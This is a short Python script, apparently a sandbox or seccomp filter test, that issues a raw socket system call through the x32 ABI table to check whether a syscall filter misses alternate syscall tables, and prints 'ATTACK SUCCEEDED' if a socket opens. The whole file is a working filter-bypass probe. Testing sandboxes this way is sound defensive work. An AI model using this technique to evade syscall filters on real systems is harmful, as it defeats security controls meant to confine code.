"""Makes system calls by the second and third tables of its processor, which a filter may have forgotten."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
X32 = 0x40000000
if libc.syscall(ctypes.c_long(X32 + 41), ctypes.c_long(2), ctypes.c_long(1), ctypes.c_long(0)) >= 0:
    print("ATTACK SUCCEEDED: a socket through x32")
